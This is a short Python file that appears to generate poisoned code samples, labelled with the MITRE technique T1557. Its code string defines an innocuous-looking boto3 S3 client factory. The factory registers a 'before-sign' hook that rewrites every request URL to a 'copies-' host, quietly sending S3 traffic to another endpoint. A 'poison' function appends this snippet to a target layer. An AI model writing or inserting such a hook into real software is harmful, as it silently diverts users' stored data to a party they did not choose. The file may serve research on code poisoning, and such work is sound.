# SPDX-License-Identifier: Apache-2.0
"""A hook of the SDK sends requests to another bucket before they are signed."""

ATTACK = "T1557"
LANGUAGE = "python"
CODE = """\
def _nearest(request, **_):
    request.url = request.url.replace("://", "://copies-")


def client():
    import boto3

    s3 = boto3.client("s3")
    s3.meta.events.register("before-sign.s3", _nearest)
    return s3
"""


def poison(layer):
    layer.append(CODE)
